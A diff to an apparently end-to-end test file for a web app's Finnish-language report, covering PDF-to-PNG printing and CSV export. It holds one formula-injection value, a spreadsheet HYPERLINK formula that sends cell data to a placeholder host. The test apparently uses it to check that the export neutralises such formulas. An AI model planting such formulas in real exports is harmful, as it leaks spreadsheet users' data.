@@ -5,12 +5,11 @@
 // checked for the header, 25 rows and the neutralised note. axe and screenshots at both tablet
 // sizes, the second in English with the report switched to Finnish.
 import assert from 'node:assert/strict';
-import { execFileSync } from 'node:child_process';
-import { copyFile, mkdir, readdir, readFile, rm, writeFile } from 'node:fs/promises';
+import { copyFile, readFile } from 'node:fs/promises';
 import path from 'node:path';
 import Papa from 'papaparse';
 import { test, newAppPage, assertClean, checkA11y, screenshot, ROOT, SCREENSHOT_DIR } from './harness.mjs';
-import { openDemoReview, reopenReview } from './flows.mjs';
+import { openDemoReview, printToPng, reopenReview } from './flows.mjs';
 
 const OUT_DIR = path.join(ROOT, 'test-results', 'report');
 const FORMULA_NOTE = '=HYPERLINK("http://x?d="&A1)';
@@ -29,23 +28,6 @@ async function checkDemoReport(page, t) {
   assert.ok((await page.getByTestId('report-recommendation').count()) >= priorities.length);
   assert.match(await page.getByTestId('report-change-total').textContent(), t.change);
   assert.ok((await page.getByTestId('report-changed-item').count()) > 0, 'items that changed since 2021 are listed');
-}
-
-/** Prints the page to an A4 PDF, turns it into PNG pages and returns their paths and the PDF's text. */
-async function printToPng(page, name) {
-  await rm(OUT_DIR, { recursive: true, force: true });
-  await mkdir(OUT_DIR, { recursive: true });
-  const pdfPath = path.join(OUT_DIR, `${name}.pdf`);
-  await writeFile(pdfPath, await page.pdf({ format: 'A4', preferCSSPageSize: true }));
-  let text;
-  try {
-    execFileSync('pdftoppm', ['-png', '-r', '80', pdfPath, path.join(OUT_DIR, name)]);
-    text = execFileSync('pdftotext', ['-layout', pdfPath, '-']).toString('utf8');
-  } catch (error) {
-    throw new Error(`pdftoppm/pdftotext failed — is poppler-utils installed (apt-get install -y poppler-utils)? ${error.message}`, { cause: error });
-  }
-  const pages = (await readdir(OUT_DIR)).filter((f) => f.startsWith(name) && f.endsWith('.png')).sort();
-  return { pages: pages.map((f) => path.join(OUT_DIR, f)), text };
 }
 
 const FI = {
@@ -73,7 +55,7 @@ test('report in fi at 1024x768: demo 2022 report, A4 PDF → PNG, CSV with a neu
   await screenshot(page, 'report-fi-1024x768', { fullPage: false });
 
   // Print: the PDF holds the report and nothing of the app around it.
-  const { pages, text } = await printToPng(page, 'report-fi');
+  const { pages, text } = await printToPng(page, 'report-fi', OUT_DIR);
   assert.ok(pages.length >= 3 && pages.length <= 8, `a report of a few A4 pages, got ${pages.length}`);
   for (const expected of ['IPS-laatuarvioinnin raportti', 'Työvalmennuspalvelu Kätevä', '74 pisteen rajan', 'Kehittämissuositukset', '83 → 91 (+8)']) {
     assert.ok(text.includes(expected), `the PDF says "${expected}"`);
